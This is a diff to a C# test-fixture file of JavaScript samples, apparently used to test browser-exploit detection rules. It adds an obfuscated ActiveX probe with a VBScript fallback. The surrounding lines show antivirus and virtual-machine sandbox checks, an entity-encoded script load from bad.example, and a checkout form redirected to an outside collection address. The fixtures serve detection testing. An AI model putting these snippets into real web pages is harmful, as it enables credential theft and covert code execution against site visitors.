@@ -129,6 +129,11 @@ internal static class RuleFixtures
             ['Kaspersky.IeVirtualKeyboardPlugin.JavascriptApi', 'VBoxGuest', 'vmmouse'].forEach(function (n) { try { new ActiveXObject(n); found = true; } catch (e) { } });
             if (!found) { var o = document.createElement('img'); o.src = 'res://C:\\Program Files\\Fiddler2\\Fiddler.exe/#3/#1'; }
             """),
+        // The product's name is spelt in a code of the script's own.
+        ("browser-exploit", """
+            function w(s) { var t = ''; for (var i = 0; i < s.length; i += 2) t += String.fromCharCode(parseInt(s.substr(i, 2), 16)); return t; }
+            try { new ActiveXObject(w('4b6173706572736b792e49655669727475616c4b6579626f617264506c7567696e')); } catch (e) { document.write('<script type="text/vbscript">Run()<\/script>'); }
+            """),
         ("hidden-address", "var u = '&#104;&#116;&#116;&#112;&#115;&#58;&#47;&#47;&#98;&#97;&#100;&#46;&#101;&#120;&#97;&#109;&#112;&#108;&#101;&#47;&#97;&#46;&#106;&#115;'; $('<script>').attr('src', $('<i>').html(u).text()).appendTo('head');"),
         ("form-retargeted", "if (/checkout/.test(location.href)) { document.querySelector('#login form').action = 'https://203.0.113.9/collect'; document.addEventListener('submit', function () { }); }"),
     ];
